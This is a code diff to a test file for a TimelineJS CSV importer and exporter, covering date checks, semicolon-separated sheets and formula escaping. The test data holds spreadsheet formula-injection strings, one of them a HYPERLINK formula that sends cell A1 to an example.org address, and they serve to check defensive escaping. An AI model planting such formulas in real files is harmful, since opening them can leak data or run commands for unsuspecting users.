@@ -2,6 +2,7 @@
 // breaks in cells, a title row and an era, and round trips through CSV.
 import { readFileSync } from 'node:fs';
 import fc from 'fast-check';
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { parseDataset } from '../app/data/parseDataset';
 import type { Dataset } from '../schema/dataset';
@@ -46,6 +47,7 @@ describe('TimelineJS CSV', () => {
       expect.arrayContaining([
         'columns not read: "Notes"',
         'left out row 7: start_date 2021-13 is not a real calendar date',
+        'left out row 9: ends (2021-08) before it starts (2021-09)',
         '1 event with a time of day (Newsline dates go to the day)',
         '1 event with a media item (image, video or embed)',
         '1 event with a background',
@@ -62,14 +64,26 @@ describe('TimelineJS CSV', () => {
     expect(event?.date).toMatchObject({ phrase: '=HYPERLINK("x")' });
   });
 
-  it('writes cells that look like formulas so that a spreadsheet shows them as text', async () => {
+  it('writes cells that look like formulas so that a spreadsheet shows them as text, and reads them back', () => {
+    const headline = '=HYPERLINK("https://example.org/?"&A1,"x")\nsecond line';
     const csv = timelineJsToCsv({
-      events: [{ start_date: { year: 2021 }, text: { headline: '=cmd()', text: '@SUM(A1)' } }],
+      events: [{ start_date: { year: 2021 }, text: { headline, text: '@SUM(A1)' }, group: '+cmd' }],
     });
-    expect(csv).toContain(`'=cmd()`);
-    expect(csv).toContain(`'@SUM(A1)`);
+    const cells = Papa.parse<string[]>(csv).data[1]!;
+    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
+    expect(cells).toEqual(expect.arrayContaining([`'${headline}`, `'@SUM(A1)`, `'+cmd`]));
     const back = csvToTimelineJs(csv);
-    expect('error' in back).toBe(false);
+    if ('error' in back) throw new Error(back.error);
+    expect(back.timeline.events[0]).toMatchObject({ text: { headline, text: '@SUM(A1)' }, group: '+cmd' });
+  });
+
+  it('reads a sheet saved with semicolons, and numbers rows as the spreadsheet does', async () => {
+    const csv = 'Year;Month;Day;Headline;Text\n2021;8;15;Kabul falls;"One; two"\n\n2021;8;40;Bad day;x\n';
+    const { dataset, notes } = await opened(csv);
+    expect(dataset.events.map((event) => [event.title, event.summary])).toEqual([
+      ['Kabul falls', 'One; two'],
+    ]);
+    expect(notes).toContain('left out row 4: start_date 2021-08-40 is not a real calendar date');
   });
 
   it('refuses CSV without the columns it needs, saying what it found', async () => {
